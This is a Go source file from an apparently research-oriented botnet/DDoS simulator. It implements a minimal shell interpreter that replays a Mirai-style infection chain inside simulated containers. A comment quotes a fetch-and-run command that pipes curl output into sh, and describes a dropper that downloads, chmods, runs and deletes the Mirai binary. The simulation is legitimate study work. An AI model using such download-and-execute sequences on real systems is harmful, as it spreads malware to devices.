package container

import (
	"fmt"
	"strings"

	"ddosim/internal/shttp"
	"ddosim/internal/sim"
)

// srcShell labels the steps of container shell scripts.
var srcShell = sim.NewSource("container.shell")

// The shell is the minimal busybox-style interpreter the infection
// chain needs. The paper's ROP payload runs
//   sh -c "curl -s ShellScript_URL | sh"
// and the downloaded script then curls the arch-specific Mirai binary,
// chmods it, runs it, and removes it. Commands execute asynchronously
// against simulated time: curl performs a real HTTP GET over the
// simulated network, so a slow 100 kbps Dev link genuinely delays
// infection.
//
// Supported: curl [-s] URL [-o FILE] [| sh], chmod +x FILE, rm [-f]
// FILE, echo ..., sleep SECS, `#` comments, `$(uname -m)` / $ARCH
// substitution, and execution of filesystem binaries (trailing `&`
// tolerated). Any failing command aborts the script, as with set -e.

// shellJob is one running script.
type shellJob struct {
	c      *Container
	lines  []string
	idx    int
	onDone func(error)
	depth  int
}

const maxShellDepth = 8

// RunShell interprets script inside the container. onDone (optional)
// fires once, with nil on success or the first command error.
func (c *Container) RunShell(script string, onDone func(error)) {
	c.engine.ctrShellExecs.Inc()
	c.runShellDepth(script, onDone, 0)
}

func (c *Container) runShellDepth(script string, onDone func(error), depth int) {
	job := &shellJob{c: c, onDone: onDone, depth: depth}
	for _, line := range strings.Split(script, "\n") {
		line = strings.TrimSpace(line)
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		job.lines = append(job.lines, line)
	}
	if depth > maxShellDepth {
		job.finish(fmt.Errorf("container: shell recursion limit exceeded"))
		return
	}
	// Begin asynchronously so callers never observe re-entrant
	// completion.
	c.node.Sched().ScheduleSrc(0, srcShell, job.step)
}

func (j *shellJob) finish(err error) {
	if j.onDone != nil {
		cb := j.onDone
		j.onDone = nil
		cb(err)
	}
}

// step runs the next line; async commands re-enter step from their
// completion callbacks.
func (j *shellJob) step() {
	if !j.c.running {
		j.finish(fmt.Errorf("container %s: stopped", j.c.name))
		return
	}
	if j.idx >= len(j.lines) {
		j.finish(nil)
		return
	}
	line := j.lines[j.idx]
	j.idx++
	j.exec(line, func(err error) {
		if err != nil {
			j.c.logf("sh: %s: %v", line, err)
			j.finish(err)
			return
		}
		j.step()
	})
}

// exec interprets one command line and calls next exactly once.
func (j *shellJob) exec(line string, next func(error)) {
	line = j.substitute(line)

	// One pipe form is supported: `curl ... | sh`.
	if lhs, rhs, piped := strings.Cut(line, "|"); piped && strings.TrimSpace(rhs) == "sh" {
		fields := strings.Fields(lhs)
		if len(fields) == 0 || fields[0] != "curl" {
			next(fmt.Errorf("unsupported pipeline %q", line))
			return
		}
		if j.c.removedCommands[fields[0]] {
			next(fmt.Errorf("sh: %s: not found", fields[0]))
			return
		}
		j.curl(fields[1:], func(body []byte, err error) {
			if err != nil {
				next(err)
				return
			}
			j.c.runShellDepth(string(body), next, j.depth+1)
		})
		return
	}

	fields := strings.Fields(strings.TrimSuffix(line, "&"))
	if len(fields) == 0 {
		next(nil)
		return
	}
	if j.c.removedCommands[fields[0]] {
		// §IV-C insight: firmware vendors can simply not ship curl
		// and friends, severing the download stage of the infection.
		next(fmt.Errorf("sh: %s: not found", fields[0]))
		return
	}
	switch fields[0] {
	case "curl", "wget":
		j.curl(fields[1:], func(body []byte, err error) { next(err) })
	case "chmod":
		next(j.chmod(fields[1:]))
	case "rm":
		next(j.rm(fields[1:]))
	case "echo", ":", "true":
		next(nil)
	case "sleep":
		j.sleep(fields[1:], next)
	default:
		// A path: execute it as a binary.
		if _, err := j.c.ExecFile(fields[0], fields[1:]); err != nil {
			next(err)
			return
		}
		next(nil)
	}
}

// substitute expands the tiny set of constructs the infection scripts
// use.
func (j *shellJob) substitute(line string) string {
	line = strings.ReplaceAll(line, "$(uname -m)", j.c.arch)
	line = strings.ReplaceAll(line, "${ARCH}", j.c.arch)
	line = strings.ReplaceAll(line, "$ARCH", j.c.arch)
	return line
}

// curl fetches a URL; with -o FILE the body lands in the filesystem
// and cb receives nil bytes.
func (j *shellJob) curl(args []string, cb func([]byte, error)) {
	var url, outFile string
	for i := 0; i < len(args); i++ {
		switch a := args[i]; {
		case a == "-s" || a == "-q" || a == "-f":
			// Quiet/fail flags: no-ops here.
		case a == "-o" || a == "-O":
			if i+1 >= len(args) {
				cb(nil, fmt.Errorf("curl: -o needs a file"))
				return
			}
			i++
			outFile = args[i]
		case strings.HasPrefix(a, "-"):
			// Ignore other flags.
		default:
			url = a
		}
	}
	if url == "" {
		cb(nil, fmt.Errorf("curl: no URL"))
		return
	}
	shttp.Get(j.c.node, url, func(body []byte, err error) {
		if err != nil {
			cb(nil, fmt.Errorf("curl: %s: %w", url, err))
			return
		}
		if outFile != "" {
			j.c.fs.Write(outFile, body)
			cb(nil, nil)
			return
		}
		cb(body, nil)
	})
}

func (j *shellJob) chmod(args []string) error {
	if len(args) != 2 || args[0] != "+x" {
		return fmt.Errorf("chmod: usage: chmod +x FILE")
	}
	return j.c.fs.Chmod(args[1], true)
}

func (j *shellJob) rm(args []string) error {
	force := false
	var paths []string
	for _, a := range args {
		if a == "-f" || a == "-rf" {
			force = true
			continue
		}
		paths = append(paths, a)
	}
	for _, p := range paths {
		if err := j.c.fs.Remove(p); err != nil && !force {
			return err
		}
	}
	return nil
}

func (j *shellJob) sleep(args []string, next func(error)) {
	secs := 1.0
	if len(args) > 0 {
		if _, err := fmt.Sscanf(args[0], "%f", &secs); err != nil {
			next(fmt.Errorf("sleep: bad duration %q", args[0]))
			return
		}
	}
	j.c.node.Sched().Schedule(sim.Seconds(secs), func() { next(nil) })
}
